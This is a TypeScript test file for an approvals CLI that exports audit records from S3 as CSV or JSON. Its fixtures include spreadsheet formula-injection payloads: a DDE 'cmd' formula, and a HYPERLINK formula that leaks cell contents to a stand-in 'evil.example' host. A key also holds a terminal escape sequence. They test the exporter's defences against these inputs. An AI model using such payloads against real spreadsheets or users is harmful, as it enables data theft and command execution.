// `npm run approvals -- export` and `show` from the decision record: the CLI's main in-process
// against a fake S3 (ListObjectsV2 in small pages, GetObject) holding records in the layout the
// workflow writes (functions/auditRecord.ts), a fake Step Functions that has forgotten the
// execution, and a fake `pulumi` whose stack outputs name the record bucket.
import { expect } from "chai";
import { spawn } from "child_process";
import { chmodSync, existsSync, mkdtempSync, readFileSync, readdirSync, writeFileSync } from "fs";
import { createServer } from "http";
import { AddressInfo } from "net";
import { tmpdir } from "os";
import { join } from "path";
import { main } from "../scripts/approvals";
import { AUDIT_RECORD_SCHEMA, AuditRecord, auditRecordKey } from "../functions/auditRecord";
import { csvField, textCell } from "../scripts/lib/auditExportFormat";
import { fakeAwsCliEnv, runInProcess } from "./helpers/cliEnv";
import { FakeAws, serveExecutions } from "./helpers/fakeAws";
import { FakeS3, S3Error } from "./helpers/fakeS3";
import { CollectedPolicy, simulateCall } from "./helpers/iamSimulation";

const BUCKET = "sfn-approvals-prod-audit-20260101000000000000000001";
const STATE_MACHINE = "arn:aws:states:eu-west-1:123456789012:stateMachine:sfn-approvals-prod";
const arnOf = (name: string) => `arn:aws:states:eu-west-1:123456789012:execution:sfn-approvals-prod:${name}`;
const ALICE = "arn:aws:iam::123456789012:user/alice";
const BOB = "arn:aws:sts::123456789012:assumed-role/FinanceApprover/bob";
const MANAGERS = ["arn:aws:iam::123456789012:role/ReleaseApprover", ALICE];
const FINANCE = ["arn:aws:iam::123456789012:role/FinanceApprover"];
const V1 = "wv-3f2a9c1d";
const EXPENSE = {
  title: "Expense report ER1001",
  requestId: "ER1001",
  requester: "Jane Doe <jane@example.com>",
  amount: 750.5,
  currency: "USD",
};
const DINNER = {
  title: "Team dinner, Q4",
  requestId: "ER1002",
  requester: "Sam <sam@example.com>",
  amount: 900,
  currency: "EUR",
};
const TAXI = { title: "Taxi", amount: 42 };
// User text a spreadsheet would run as formulas.
const HOSTILE = { title: "@SUM(1+1)*cmd|' /C calc'!A0", requestId: "\tER1004", requester: "-2+3", amount: -5 };

const dir = mkdtempSync(join(tmpdir(), "approvals-export-"));
const ROOT = join(__dirname, "..");

function fakePulumi(stack: string, outputs: object): string {
  const path = join(dir, `pulumi-${stack}`);
  writeFileSync(
    path,
    `#!/bin/sh\n[ "$*" = "stack output --json --stack ${stack}" ] || { echo "unexpected: $*" >&2; exit 3; }\ncat <<'JSON'\n${JSON.stringify(outputs)}\nJSON\n`,
  );
  chmodSync(path, 0o755);
  return path;
}

const base = (name: string, recordedAt: string, request: unknown, startedAt: string) => ({
  schema: AUDIT_RECORD_SCHEMA as typeof AUDIT_RECORD_SCHEMA,
  recordedAt,
  execution: { arn: arnOf(name), name, startedAt, stateMachine: STATE_MACHINE },
  workflowVersion: V1,
  request,
});

function decision(
  name: string,
  recordedAt: string,
  request: unknown,
  d: { stage: string; mechanism: "ssm-automation" | "codepipeline"; decision: "approved" | "rejected" | "timed_out" },
  approver: string | null,
  comment: string | null,
  startedAt = "2026-01-05T08:00:00.000Z",
): AuditRecord {
  return {
    ...base(name, recordedAt, request, startedAt),
    kind: "decision",
    ...d,
    approvers: d.stage === "manager" ? MANAGERS : FINANCE,
    approved: d.decision === "approved",
    approver,
    comment,
    decidedAt: new Date(Date.parse(recordedAt) - 1000).toISOString(),
  };
}

function outcome(
  name: string,
  recordedAt: string,
  request: unknown,
  o: "approved" | "rejected" | "auto_approved" | "failed",
  stages: AuditRecord[] = [],
  error?: string,
  startedAt = "2026-01-05T08:00:00.000Z",
): AuditRecord {
  return {
    ...base(name, recordedAt, request, startedAt),
    kind: "outcome",
    outcome: o,
    approved: o === "approved" || o === "auto_approved",
    stages: stages.map((s) => {
      const { stage, mechanism, approver, comment, decidedAt, approved } = s as Extract<
        AuditRecord,
        { kind: "decision" }
      >;
      return {
        approved,
        decision: (s as { decision: "approved" }).decision,
        stage,
        mechanism,
        approver,
        comment,
        decidedAt,
      };
    }),
    ...(error ? { error } : {}),
  };
}

const what = (r: AuditRecord) => (r.kind === "decision" ? `decision-${r.stage}` : "outcome");
const keyOf = (r: AuditRecord) =>
  auditRecordKey({ recordedAt: r.recordedAt, executionName: r.execution.name, what: what(r) });

// The record: three days in the range, one before and one after it.
const ER1001_MANAGER = decision(
  "er1001",
  "2026-01-05T10:00:00.000Z",
  EXPENSE,
  { stage: "manager", mechanism: "ssm-automation", decision: "approved" },
  ALICE,
  "receipts checked",
);
const ER1002_MANAGER = decision(
  "er1002",
  "2026-01-05T09:00:00.000Z",
  DINNER,
  { stage: "manager", mechanism: "ssm-automation", decision: "rejected" },
  ALICE,
  '=HYPERLINK("https://evil.example/?leak="&A1,"details")',
);
const ER1002_OUTCOME = outcome("er1002", "2026-01-05T09:00:00.500Z", DINNER, "rejected", [ER1002_MANAGER]);
const ER1001_FINANCE = decision(
  "er1001",
  "2026-01-06T08:00:00.000Z",
  EXPENSE,
  { stage: "finance", mechanism: "codepipeline", decision: "approved" },
  BOB,
  'ok, "fine"\nsee the note',
);
const ER1001_OUTCOME = outcome("er1001", "2026-01-06T08:00:01.000Z", EXPENSE, "approved", [
  ER1001_MANAGER,
  ER1001_FINANCE,
]);
// Same time, two executions: ordered by execution ARN.
const ER1003_OUTCOME = outcome("er1003", "2026-01-06T12:00:00.000Z", TAXI, "auto_approved");
const ER1000_OUTCOME = outcome("er1000", "2026-01-06T12:00:00.000Z", TAXI, "auto_approved");
const ER1004_OUTCOME = outcome("er1004", "2026-02-10T07:00:00.000Z", HOSTILE, "failed", [], "States.Runtime");
const BEFORE = outcome("er0999", "2025-12-31T23:59:59.999Z", TAXI, "auto_approved");
const AFTER = outcome("er1005", "2026-03-01T00:00:00.000Z", TAXI, "auto_approved");
const IN_RANGE = [
  ER1002_MANAGER,
  ER1002_OUTCOME,
  ER1001_MANAGER,
  ER1001_FINANCE,
  ER1001_OUTCOME,
  ER1000_OUTCOME,
  ER1003_OUTCOME,
  ER1004_OUTCOME,
];

const HEADER =
  "execution_name,execution_arn,recorded_at,kind,stage,mechanism,decision,approved,approver,comment,decided_at,request_title,request_id,requester,amount,currency,workflow_version,stage_approvers,error,record_key,approver_name,approver_team";
const EXPECTED_CSV = [
  HEADER,
  `er1002,${arnOf("er1002")},2026-01-05T09:00:00.000Z,decision,manager,ssm-automation,rejected,false,${ALICE},"'=HYPERLINK(""https://evil.example/?leak=""&A1,""details"")",2026-01-05T08:59:59.000Z,"Team dinner, Q4",ER1002,Sam <sam@example.com>,900,EUR,${V1},arn:aws:iam::123456789012:role/ReleaseApprover; ${ALICE},,records/2026-01-05/er1002/2026-01-05T09:00:00.000Z-decision-manager.json,,`,
  `er1002,${arnOf("er1002")},2026-01-05T09:00:00.500Z,outcome,,,rejected,false,,,,"Team dinner, Q4",ER1002,Sam <sam@example.com>,900,EUR,${V1},,,records/2026-01-05/er1002/2026-01-05T09:00:00.500Z-outcome.json,,`,
  `er1001,${arnOf("er1001")},2026-01-05T10:00:00.000Z,decision,manager,ssm-automation,approved,true,${ALICE},receipts checked,2026-01-05T09:59:59.000Z,Expense report ER1001,ER1001,Jane Doe <jane@example.com>,750.5,USD,${V1},arn:aws:iam::123456789012:role/ReleaseApprover; ${ALICE},,records/2026-01-05/er1001/2026-01-05T10:00:00.000Z-decision-manager.json,,`,
  `er1001,${arnOf("er1001")},2026-01-06T08:00:00.000Z,decision,finance,codepipeline,approved,true,${BOB},"ok, ""fine""\nsee the note",2026-01-06T07:59:59.000Z,Expense report ER1001,ER1001,Jane Doe <jane@example.com>,750.5,USD,${V1},arn:aws:iam::123456789012:role/FinanceApprover,,records/2026-01-06/er1001/2026-01-06T08:00:00.000Z-decision-finance.json,,`,
  `er1001,${arnOf("er1001")},2026-01-06T08:00:01.000Z,outcome,,,approved,true,,,,Expense report ER1001,ER1001,Jane Doe <jane@example.com>,750.5,USD,${V1},,,records/2026-01-06/er1001/2026-01-06T08:00:01.000Z-outcome.json,,`,
  `er1000,${arnOf("er1000")},2026-01-06T12:00:00.000Z,outcome,,,auto_approved,true,,,,Taxi,,,42,,${V1},,,records/2026-01-06/er1000/2026-01-06T12:00:00.000Z-outcome.json,,`,
  `er1003,${arnOf("er1003")},2026-01-06T12:00:00.000Z,outcome,,,auto_approved,true,,,,Taxi,,,42,,${V1},,,records/2026-01-06/er1003/2026-01-06T12:00:00.000Z-outcome.json,,`,
  `er1004,${arnOf("er1004")},2026-02-10T07:00:00.000Z,outcome,,,failed,false,,,,'@SUM(1+1)*cmd|' /C calc'!A0,'\tER1004,'-2+3,-5,,${V1},,States.Runtime,records/2026-02-10/er1004/2026-02-10T07:00:00.000Z-outcome.json,,`,
  "",
].join("\r\n");

const PROGRESS = [
  `export: records written from 2026-01-01 to 2026-02-28 (UTC, 59 days) in bucket ${BUCKET}`,
  "export: 3 days of the range hold records",
  "export: 2026-01-05: 3 records (day 1 of 3; 3 exported so far)",
  "export: 2026-01-06: 4 records (day 2 of 3; 7 exported so far)",
  "export: 2026-02-10: 1 record (day 3 of 3; 8 exported so far)",
];
const RANGE = ["--from", "2026-01-01", "--to", "2026-02-28"];

describe("approvals export and show from the decision record (fake S3)", function () {
  this.timeout(20000);
  const s3 = new FakeS3();
  const aws = new FakeAws();
  let env: Record<string, string>;

  before(async () => {
    env = fakeAwsCliEnv({
      AWS_ENDPOINT_URL_S3: await s3.start(),
      AWS_ENDPOINT_URL_SFN: await aws.start(),
      PULUMI_COMMAND: fakePulumi("prod", {
        stateMachineArn: STATE_MACHINE,
        region: "eu-west-1",
        stages: [],
        auditBucketName: BUCKET,
      }),
    });
  });
  after(async () => {
    await s3.stop();
    await aws.stop();
  });
  beforeEach(() => {
    s3.reset();
    aws.reset();
    // Two entries a page: every listing below takes more than one page.
    s3.pageSize = 2;
    for (const r of [BEFORE, ...IN_RANGE, AFTER]) s3.put(BUCKET, keyOf(r), JSON.stringify(r));
  });

  const run = (args: string[], extraEnv: Record<string, string | undefined> = {}) =>
    runInProcess(main, args, { ...env, ...extraEnv });

  it("writes the records of the range as CSV, oldest first, reading every page of every listing", async () => {
    const result = await run(["--stack", "prod", "export", ...RANGE, "--format", "csv"]);
    expect(result.stdout).to.equal(EXPECTED_CSV);
    expect(result.stderr).to.equal(
      [...PROGRESS, "export: 8 records (3 decisions, 5 outcomes) written to stdout", ""].join("\n"),
    );
    expect(result.code).to.equal(0);

    // The days under records/ from --from on (stopping after --to), then each day's keys, page by page.
    const lists = s3.requests.filter((r) => r.operation === "ListObjectsV2");
    expect(
      lists.map((r) => [r.query.prefix, r.query.delimiter, r.query["start-after"], r.query["continuation-token"]]),
    ).to.deep.equal([
      ["records/", "/", "records/2026-01-01", undefined],
      ["records/", "/", "records/2026-01-01", Buffer.from("records/2026-01-06/").toString("base64")],
      ["records/2026-01-05/", undefined, undefined, undefined],
      ["records/2026-01-05/", undefined, undefined, Buffer.from(keyOf(ER1002_MANAGER)).toString("base64")],
      ["records/2026-01-06/", undefined, undefined, undefined],
      ["records/2026-01-06/", undefined, undefined, Buffer.from(keyOf(ER1001_FINANCE)).toString("base64")],
      ["records/2026-02-10/", undefined, undefined, undefined],
    ]);
    const gets = s3.requests.filter((r) => r.operation === "GetObject");
    expect(gets.map((r) => r.key).sort()).to.deep.equal(IN_RANGE.map(keyOf).sort());
    expect(
      s3.requests.every((r) => r.bucket === BUCKET && r.service === "s3" && r.accessKeyId === "AKIAFAKEFORTESTS"),
    ).to.equal(true);
  });

  it("writes the records as stored, as a JSON array in the same order, to --out FILE", async () => {
    const out = join(mkdtempSync(join(dir, "out-")), "records.json");
    const listeners = [process.listenerCount("SIGINT"), process.listenerCount("SIGTERM")];
    const result = await run(["export", "--bucket", BUCKET, ...RANGE, "--format", "json", "--out", out], {
      AWS_REGION: "eu-west-1",
    });
    expect([process.listenerCount("SIGINT"), process.listenerCount("SIGTERM")]).to.deep.equal(listeners);
    expect(result.code).to.equal(0);
    expect(result.stdout).to.equal("");
    const ordered = [
      ER1002_MANAGER,
      ER1002_OUTCOME,
      ER1001_MANAGER,
      ER1001_FINANCE,
      ER1001_OUTCOME,
      ER1000_OUTCOME,
      ER1003_OUTCOME,
      ER1004_OUTCOME,
    ];
    expect(readFileSync(out, "utf8")).to.equal(`[\n${ordered.map((r) => JSON.stringify(r)).join(",\n")}\n]\n`);
    expect(JSON.parse(readFileSync(out, "utf8"))).to.deep.equal(ordered);
    expect(readdirSync(join(out, ".."))).to.deep.equal(["records.json"]);
    expect(result.stderr).to.contain(`export: 8 records (3 decisions, 5 outcomes) written to ${out}\n`);
  });

  it("writes an empty export for a range without records", async () => {
    const result = await run([
      "export",
      "--bucket",
      BUCKET,
      "--from",
      "2026-01-07",
      "--to",
      "2026-01-31",
      "--format",
      "json",
    ]);
    expect(result).to.deep.equal({
      code: 0,
      stdout: "[]\n",
      stderr: [
        `export: records written from 2026-01-07 to 2026-01-31 (UTC, 25 days) in bucket ${BUCKET}`,
        "export: 0 days of the range hold records",
        "export: 0 records (0 decisions, 0 outcomes) written to stdout",
        "",
      ].join("\n"),
    });
  });

  it("puts a slack decision's approver name and team in the last two columns (a name is guarded like any text)", async () => {
    const slack = {
      ...base("er1010", "2026-01-07T10:00:00.000Z", TAXI, "2026-01-07T09:00:00.000Z"),
      kind: "decision" as const,
      stage: "manager",
      mechanism: "slack" as const,
      approvers: ["U0ALICE", "U0BOB"],
      decision: "approved" as const,
      approved: true,
      approver: "U0BOB",
      approverName: "=Bob, the Builder",
      approverTeam: "T0FAKETEAM",
      comment: null,
      decidedAt: "2026-01-07T09:59:59Z",
    };
    s3.put(BUCKET, keyOf(slack), JSON.stringify(slack));
    const day = ["--from", "2026-01-07", "--to", "2026-01-07"];
    const csv = await run(["export", "--bucket", BUCKET, ...day, "--format", "csv"]);
    expect(csv.code).to.equal(0);
    expect(csv.stdout).to.equal(
      [
        HEADER,
        `er1010,${arnOf("er1010")},2026-01-07T10:00:00.000Z,decision,manager,slack,approved,true,U0BOB,,2026-01-07T09:59:59Z,Taxi,,,42,,${V1},U0ALICE; U0BOB,,${keyOf(slack)},"'=Bob, the Builder",T0FAKETEAM`,
        "",
      ].join("\r\n"),
    );
    const json = await run(["export", "--bucket", BUCKET, ...day, "--format", "json"]);
    expect(JSON.parse(json.stdout)).to.deep.equal([slack]);
  });

  it("guards every text cell a spreadsheet would run as a formula with a leading apostrophe, and quotes per RFC 4180", () => {
    for (const start of ["=", "+", "-", "@", "\t", "\r", "\0"])
      expect(textCell(`${start}1+1`)).to.equal(`'${start}1+1`);
    expect(textCell("1+1")).to.equal("1+1");
    expect(textCell("")).to.equal("");
    expect(csvField('say "hi", then\r\nleave')).to.equal('"say ""hi"", then\r\nleave"');
    expect(csvField("plain")).to.equal("plain");
  });

  it("names each record it cannot read (key and problem) on stderr, exports the rest and exits 1", async () => {
    s3.put(BUCKET, "records/2026-01-06/er1006/2026-01-06T13:00:00.000Z-outcome.json", "{ not json");
    s3.put(
      BUCKET,
      "records/2026-01-06/er1007/2026-01-06T14:00:00.000Z-outcome.json",
      JSON.stringify({ ...ER1003_OUTCOME, schema: "v0" }),
    );
    // A key holding a terminal escape is printed without it.
    s3.put(BUCKET, "records/2026-02-10/er\u001b[2J1008/x.json", JSON.stringify({ ...ER1004_OUTCOME, approved: true }));
    // A whole record under another day's key: exported, and said.
    s3.put(BUCKET, "records/2026-02-10/er1001/2026-01-06T08:00:01.000Z-outcome.json", JSON.stringify(ER1001_OUTCOME));
    const result = await run(["--stack", "prod", "export", ...RANGE, "--format", "csv"]);
    expect(result.code).to.equal(1);
    expect(result.stderr).to.equal(
      [
        ...PROGRESS.slice(0, 3),
        "export: UNREADABLE records/2026-01-06/er1006/2026-01-06T13:00:00.000Z-outcome.json: not JSON; it is NOT in the export",
        `export: UNREADABLE records/2026-01-06/er1007/2026-01-06T14:00:00.000Z-outcome.json: schema is not ${AUDIT_RECORD_SCHEMA}; it is NOT in the export`,
        "export: 2026-01-06: 4 records, 2 unreadable (day 2 of 3; 7 exported so far)",
        "export: UNREADABLE records/2026-02-10/er1008/x.json: approved and outcome disagree; it is NOT in the export",
        "export: MISPLACED records/2026-02-10/er1001/2026-01-06T08:00:01.000Z-outcome.json: its recordedAt (2026-01-06T08:00:01.000Z) is not on its key's day 2026-02-10; it is in the export",
        "export: 2026-02-10: 2 records, 1 unreadable (day 3 of 3; 9 exported so far)",
        "export: 9 records (3 decisions, 6 outcomes) written to stdout",
        "export: 3 records could not be read and are NOT in the export; 1 record does not match its key (exported): see the lines above (exit code 1)",
        "",
      ].join("\n"),
    );
    expect(result.stdout.split("\r\n")).to.have.length(11);
  });

  describe("refuses what it cannot export, with exit code 2 and no S3 call", () => {
    const cases: Array<[string[], string]> = [
      [
        ["export", "--bucket", BUCKET, "--from", "2026-01-01", "--format", "csv"],
        "give the UTC days of the records: --from YYYY-MM-DD --to YYYY-MM-DD (both included)",
      ],
      [
        ["export", "--bucket", BUCKET, "--from", "2026-1-1", "--to", "2026-02-01", "--format", "csv"],
        "--from must be a UTC day written YYYY-MM-DD, got '2026-1-1'",
      ],
      [
        ["export", "--bucket", BUCKET, "--from", "2026-01-01", "--to", "2026-02-30", "--format", "csv"],
        "--to 2026-02-30 is not a day of the calendar",
      ],
      [
        ["export", "--bucket", BUCKET, "--from", "2026-13-01", "--to", "2026-12-01", "--format", "csv"],
        "--from 2026-13-01 is not a day of the calendar",
      ],
      [
        ["export", "--bucket", BUCKET, "--from", "2026-02-01", "--to", "2026-01-31", "--format", "csv"],
        "--from 2026-02-01 is after --to 2026-01-31",
      ],
      [
        ["export", "--bucket", BUCKET, "--from", "2016-01-01", "--to", "2026-01-09", "--format", "csv"],
        "--from 2016-01-01 --to 2026-01-09 spans 3662 days; one run reads at most 3660: split it",
      ],
      [["export", "--bucket", BUCKET, ...RANGE], "export needs --format csv or --format json"],
      [["export", "--bucket", BUCKET, ...RANGE, "--format", "xlsx"], "--format is csv or json, got 'xlsx'"],
      [
        ["export", ...RANGE, "--format", "csv"],
        "export reads the decision record of --stack STACK or of --bucket NAME: give one of them",
      ],
      [
        ["export", "--bucket", "Not_A_Bucket", ...RANGE, "--format", "csv"],
        "--bucket 'Not_A_Bucket' is not an S3 bucket name (3 to 63 of a-z 0-9 . -)",
      ],
      [
        ["export", "--state-machine-arn", STATE_MACHINE, ...RANGE, "--format", "csv"],
        "--state-machine-arn does not go with export",
      ],
      [["list", "--stack", "prod", "--from", "2026-01-01"], "--from does not go with list"],
    ];
    for (const [args, message] of cases) {
      it(`refuses ${args.slice(1).join(" ")}`, async () => {
        const result = await run(args);
        expect(result.code).to.equal(2);
        expect(result.stdout).to.equal("");
        expect(result.stderr).to.match(
          new RegExp(`^approvals: ${message.replace(/[.*+?^${}()|[\]\\]/g, "\\$&")}\n\nUsage: npm run approvals`),
        );
        expect(s3.requests).to.deep.equal([]);
      });
    }
  });

  it("exits 2 for a bucket S3 does not have, and leaves no file behind", async () => {
    const out = join(mkdtempSync(join(dir, "out-")), "records.csv");
    const listeners = [process.listenerCount("SIGINT"), process.listenerCount("SIGTERM")];
    const result = await run(["export", "--bucket", "no-such-bucket", ...RANGE, "--format", "csv", "--out", out]);
    // Its interrupt handlers went with the file.
    expect([process.listenerCount("SIGINT"), process.listenerCount("SIGTERM")]).to.deep.equal(listeners);
    expect(result.code).to.equal(2);
    expect(result.stderr).to.equal(
      [
        "export: records written from 2026-01-01 to 2026-02-28 (UTC, 59 days) in bucket no-such-bucket",
        "approvals: S3 has no bucket 'no-such-bucket': check the name (the stack output auditBucketName) and the account",
        "",
      ].join("\n"),
    );
    expect(existsSync(out) || existsSync(`${out}.partial`)).to.equal(false);
  });

  it("removes FILE.partial when interrupted (SIGINT, SIGTERM) and dies of the signal", async () => {
    // An S3 that never answers: the export waits on its first listing, FILE.partial open.
    const silent = createServer(() => undefined);
    await new Promise<void>((resolve) => silent.listen(0, "127.0.0.1", resolve));
    const s3Url = `http://127.0.0.1:${(silent.address() as AddressInfo).port}`;
    const interrupt = async (signal: NodeJS.Signals) => {
      const out = join(mkdtempSync(join(dir, "out-")), "records.csv");
      const args = ["export", "--bucket", BUCKET, ...RANGE, "--format", "csv", "--out", out];
      const child = spawn(process.execPath, ["scripts/run.js", "scripts/approvals.ts", ...args], {
        cwd: ROOT,
        env: { ...env, AWS_REGION: "eu-west-1", AWS_ENDPOINT_URL_S3: s3Url },
      });
      let stderr = "";
      let partialWhenSignalled: boolean | undefined;
      child.stderr.on("data", (chunk: Buffer) => {
        stderr += chunk.toString();
        // Its first progress line: the export has begun.
        if (partialWhenSignalled === undefined && stderr.includes("export: records written from")) {
          partialWhenSignalled = existsSync(`${out}.partial`);
          child.kill(signal);
        }
      });
      const [code, killedBy] = await new Promise<[number | null, string | null]>((resolve) =>
        child.on("exit", (c, s) => resolve([c, s])),
      );
      return { partialWhenSignalled, code, killedBy, left: readdirSync(join(out, "..")) };
    };
    try {
      const [sigint, sigterm] = await Promise.all([interrupt("SIGINT"), interrupt("SIGTERM")]);
      expect(sigint).to.deep.equal({ partialWhenSignalled: true, code: null, killedBy: "SIGINT", left: [] });
      expect(sigterm).to.deep.equal({ partialWhenSignalled: true, code: null, killedBy: "SIGTERM", left: [] });
    } finally {
      silent.closeAllConnections();
      silent.close();
    }
  });

  it("exits 2 when S3 refuses a record (no permission), naming the service", async () => {
    s3.intercept = (r) => (r.operation === "GetObject" ? new S3Error("AccessDenied", "Access Denied", 403) : undefined);
    const result = await run(["export", "--bucket", BUCKET, ...RANGE, "--format", "csv"]);
    expect(result.code).to.equal(2);
    expect(result.stderr).to.contain("\napprovals: S3 refused the request: AccessDenied: Access Denied\n");
  });

  it("exits 2 when the stack keeps no decision record", async () => {
    const pulumi = fakePulumi("dev", { stateMachineArn: STATE_MACHINE, region: "eu-west-1", stages: [] });
    const result = await run(["--stack", "dev", "export", ...RANGE, "--format", "csv"], { PULUMI_COMMAND: pulumi });
    expect(result).to.deep.equal({
      code: 2,
      stdout: "",
      stderr:
        "approvals: stack 'dev' exports no auditBucketName: its decision record is off (sfn-approvals:audit) or not deployed yet ('pulumi up'); or pass --bucket NAME\n",
    });
  });

  it("makes only calls the reader policy of docs/audit.md allows (iam-simulate over the Service Authorization Reference)", async () => {
    serveExecutions(aws, []);
    expect((await run(["--stack", "prod", "export", ...RANGE, "--format", "csv"])).code).to.equal(0);
    expect((await run(["--stack", "prod", "show", "er1001"])).code).to.equal(0);
    const docs = readFileSync(join(ROOT, "docs/audit.md"), "utf8");
    const statements = JSON.parse(
      /\*\*Permissions\.\*\*[\s\S]*?```json\n([\s\S]*?)```/.exec(docs)![1].replace(/BUCKET/g, BUCKET),
    );
    const READER = "arn:aws:iam::123456789012:role/Auditor";
    const policies: CollectedPolicy[] = [
      {
        origin: "docs/audit.md",
        kind: "identity",
        principal: READER,
        document: { Version: "2012-10-17", Statement: statements },
      },
    ];
    const decide = async (action: string, resource: string, context: Record<string, string> = {}) =>
      (
        await simulateCall(policies, {
          principal: READER,
          action,
          resource,
          context: { "aws:SecureTransport": "true", ...context },
        })
      ).result;
    const requests = [...new Map(s3.requests.map((r) => [`${r.operation} ${r.key} ${r.query.prefix}`, r])).values()];
    const calls = requests.map((r): { action: string; resource: string; context: Record<string, string> } =>
      r.operation === "ListObjectsV2"
        ? { action: "s3:ListBucket", resource: `arn:aws:s3:::${r.bucket}`, context: { "s3:prefix": r.query.prefix } }
        : { action: `s3:${r.operation}`, resource: `arn:aws:s3:::${r.bucket}/${r.key}`, context: {} },
    );
    expect(new Set(calls.map((c) => c.action))).to.deep.equal(new Set(["s3:ListBucket", "s3:GetObject"]));
    const outcomes = await Promise.all(
      calls.map(
        async (c) =>
          `${c.action} ${c.resource} ${c.context["s3:prefix"] ?? ""}: ${await decide(c.action, c.resource, c.context)}`,
      ),
    );
    expect(outcomes.filter((o) => !o.endsWith(": Allowed"))).to.deep.equal([]);
    // The policy does limit: the whole bucket, or an object outside records/, stays closed.
    expect(await decide("s3:ListBucket", `arn:aws:s3:::${BUCKET}`, { "s3:prefix": "" })).to.equal("ImplicitlyDenied");
    expect(await decide("s3:GetObject", `arn:aws:s3:::${BUCKET}/other.json`)).to.equal("ImplicitlyDenied");
  });

  describe("show, once Step Functions has forgotten the execution", () => {
    it("shows it from its records, found by name across the days of the record", async () => {
      serveExecutions(aws, []);
      const result = await run(["--stack", "prod", "show", "er1001"]);
      expect(result.stderr).to.equal(`approvals: reading the decision record in bucket ${BUCKET} for 'er1001'\n`);
      expect(result.stdout).to.equal(
        [
          "The execution history of 'er1001' is gone (Step Functions keeps it 90 days after an execution ends); from the decision record (5 days searched):",
          "",
          "Execution  er1001",
          "Status     ended, started 2026-01-05 08:00:00 UTC, outcome recorded 2026-01-06 08:00:01 UTC",
          "Decision   approved",
          `Version    ${V1}`,
          "Title      Expense report ER1001",
          "Request    ER1001",
          "Requester  Jane Doe <jane@example.com>",
          "Amount     750.50 USD",
          `ARN        ${arnOf("er1001")}`,
          `Source     the decision record, 3 records in bucket ${BUCKET}`,
          "",
          "Stages",
          "  STAGE    MECHANISM       DECISION  AT                       BY                                                          COMMENT",
          `  manager  ssm-automation  approved  2026-01-05 09:59:59 UTC  ${ALICE}                        receipts checked`,
          `  finance  codepipeline    approved  2026-01-06 07:59:59 UTC  ${BOB}  ok, "fine" see the note`,
          "",
          "Approvers in the version that ran",
          `  manager  arn:aws:iam::123456789012:role/ReleaseApprover, ${ALICE}`,
          "  finance  arn:aws:iam::123456789012:role/FinanceApprover",
          "",
        ].join("\n"),
      );
      expect(result.code).to.equal(0);
      expect(aws.operations()).to.deep.equal(["DescribeExecution"]);
      // The days of the record (two pages of two), then `<day>/er1001/` of each day.
      const prefixes = s3.requests.filter((r) => r.operation === "ListObjectsV2").map((r) => r.query.prefix);
      expect(prefixes.slice(0, 3)).to.deep.equal(["records/", "records/", "records/"]);
      expect(prefixes.slice(3).sort()).to.deep.equal(
        ["2025-12-31", "2026-01-05", "2026-01-06", "2026-02-10", "2026-03-01"].map((day) => `records/${day}/er1001/`),
      );
    });

    it("keeps executions of one name apart, and names records it cannot read (exit 1)", async () => {
      serveExecutions(aws, []);
      const reused = outcome(
        "er1001",
        "2026-06-01T10:00:00.000Z",
        TAXI,
        "auto_approved",
        [],
        undefined,
        "2026-06-01T09:59:59.000Z",
      );
      s3.put(BUCKET, keyOf(reused), JSON.stringify(reused));
      s3.put(BUCKET, "records/2026-06-02/er1001/broken.json", "[]");
      const result = await run(["show", "er1001", "--bucket", BUCKET, "--from", "2026-01-01", "--to", "2026-12-31"]);
      expect(result.code).to.equal(1);
      expect(result.stdout)
        .to.contain("\n[1 of 2: executions of one name, started at different times]\n\nExecution  er1001\n")
        .and.contain(
          "\n[2 of 2: executions of one name, started at different times]\n\nExecution  er1001\nStatus     ended, started 2026-06-01 09:59:59 UTC",
        )
        .and.contain("\n\nNo stage ran: the amount was below the auto-approval threshold.\n");
      expect(result.stderr).to.equal(
        [
          `approvals: reading the decision record in bucket ${BUCKET} for 'er1001'`,
          "approvals: UNREADABLE records/2026-06-02/er1001/broken.json: not a JSON object",
          "approvals: 1 record of this execution could not be read (exit code 1)",
          "",
        ].join("\n"),
      );
      // --bucket alone: no state machine to ask.
      expect(aws.requests).to.deep.equal([]);
    });

    it("says when neither Step Functions nor the record knows it, and exits 2", async () => {
      serveExecutions(aws, []);
      const result = await run(["--stack", "prod", "show", "er9999"]);
      expect(result.code).to.equal(2);
      expect(result.stderr).to.equal(
        [
          `approvals: reading the decision record in bucket ${BUCKET} for 'er9999'`,
          `approvals: there is no execution ${arnOf("er9999")} (Step Functions forgets an execution 90 days after it ends); the decision record in bucket ${BUCKET} holds no record of it`,
          "",
        ].join("\n"),
      );
    });
  });
});
